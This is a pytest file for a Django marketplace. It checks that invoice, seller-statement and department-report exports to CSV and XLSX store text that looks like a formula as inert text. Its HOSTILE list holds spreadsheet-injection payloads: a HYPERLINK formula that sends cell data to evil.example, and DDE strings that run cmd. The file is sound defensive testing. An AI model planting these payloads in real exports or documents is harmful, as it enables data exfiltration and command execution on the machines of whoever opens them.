"""Text that looks like a formula stays text in every export a person opens in a spreadsheet.

CSV: a leading apostrophe (Excel and LibreOffice show the text, evaluate nothing). XLSX: a text cell with the
value exactly as typed (openpyxl would otherwise store ``=…`` as a formula). Numbers stay numbers.
"""
import csv
import datetime
import io
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from oscar.core.loading import get_model
from openpyxl import load_workbook

from catalogue.models import Product
from invoicing.services import invoice_issue_for_fulfilment
from tests.invoicing.factories import create_delivered_part, create_invoicing_vendor, products
from tests.reports.fixtures import build_marketplace, department_user
from vendors.ledger import payout_record

pytestmark = pytest.mark.django_db
Line = get_model("order", "Line")
ShippingAddress = get_model("order", "ShippingAddress")
Partner = get_model("partner", "Partner")

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', "=cmd|' /C calc'!A0", "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


def csv_cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_neutralised(text, values):
    cells = csv_cells(text)
    for value in values:
        assert value not in cells, f"{value!r} written as a live cell"
        assert "'" + value in cells or any(cell.startswith("'" + value) for cell in cells), f"{value!r} missing"


def assert_xlsx_neutralised(content, values):
    book = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate} {cell.value!r} is a formula"
                    found[cell.value] = cell
    for value in values:
        assert any(text.startswith(value) for text in found), f"{value!r} missing from the workbook"


def test_invoice_summary_csv_and_xlsx(tmp_path):
    vendor = create_invoicing_vendor(vat=True, code="NB-INJ")
    (product,) = products(vendor, 49500)
    Product.objects.filter(pk=product.pk).update(title=HOSTILE[2])
    product.refresh_from_db()
    part = create_delivered_part(vendor=vendor, items=[(product, 2, 49500, 0)])
    ShippingAddress.objects.filter(pk=part.order.shipping_address_id).update(first_name="", last_name=HOSTILE[0],
                                                                            line1=HOSTILE[1])
    Line.objects.filter(order=part.order).update(title=HOSTILE[2])
    invoice_issue_for_fulfilment(fulfilment=part)
    today = timezone.localdate().strftime("%d/%m/%Y")
    output = tmp_path / "out.zip"
    call_command("export_einvoices", "--seller", "NB-INJ", "--from", today, "--to", today, "--output", str(output))
    with zipfile.ZipFile(output) as archive:
        text = archive.read("tong_hop.csv").decode("utf-8-sig")
        assert_csv_neutralised(text, [HOSTILE[0], HOSTILE[2]])
        assert any(cell.startswith("'" + HOSTILE[1]) or HOSTILE[1] in cell and not cell.startswith("=")
                   for cell in csv_cells(text))
        total = next(row for row in csv.reader(io.StringIO(text)) if row and row[0] == "1")[13]
        assert total == str(2 * 49500 + 30000)  # amounts are untouched numbers
        assert_xlsx_neutralised(archive.read("tong_hop.xlsx"), [HOSTILE[0], HOSTILE[2]])


def test_seller_statement_csv_and_xlsx(client):
    vendor = create_invoicing_vendor(code="NB-STMT")
    (product,) = products(vendor, 65000)
    create_delivered_part(vendor=vendor, items=[(product, 1, 65000, 0)])
    Partner.objects.filter(pk=vendor.partner_id).update(name=HOSTILE[3])
    vendor.refresh_from_db()
    vendor.partner.refresh_from_db()
    payout_record(vendor=vendor, amount=1000, reference=HOSTILE[4], paid_on=datetime.date.today())
    user = get_model("auth", "User").objects.create_user(username="stmt", email="stmt@example.com", password="x")
    vendor.partner.users.add(user)
    client.force_login(user)
    period = "&from=01/01/2020&to=31/12/2030"
    text = client.get(reverse("seller:statement") + "?format=csv" + period).content.decode("utf-8-sig")
    assert_csv_neutralised(text, [HOSTILE[3], HOSTILE[4]])
    xlsx = client.get(reverse("seller:statement") + "?format=xlsx" + period).content
    assert_xlsx_neutralised(xlsx, [HOSTILE[3], HOSTILE[4]])
    payouts = [row for row in load_workbook(io.BytesIO(xlsx))["Chi tiết"].iter_rows(values_only=True)
               if row[4] == HOSTILE[4]]
    assert payouts and payouts[0][3] == -1000  # the amount is still a number


def test_department_report_xlsx_and_csv(client):
    market = build_marketplace()
    Product.objects.filter(title="Kẹo cu đơ A1").update(title=HOSTILE[0])
    Line.objects.filter(title="Kẹo cu đơ A1").update(title=HOSTILE[0])
    Partner.objects.filter(pk=market["a"].partner_id).update(name=HOSTILE[2])
    Line.objects.filter(partner_id=market["a"].partner_id).update(partner_name=HOSTILE[2])
    client.force_login(department_user())
    march = {"period": "month", "month": "03/2026"}
    text = client.get("/bao-cao/xuat/csv/", march).content.decode("utf-8-sig")
    assert_csv_neutralised(text, [HOSTILE[0], HOSTILE[2]])
    assert "Giá trị hàng hóa giao dịch (GMV),750000" in text
    assert_xlsx_neutralised(client.get("/bao-cao/xuat/xlsx/", march).content, [HOSTILE[0], HOSTILE[2]])
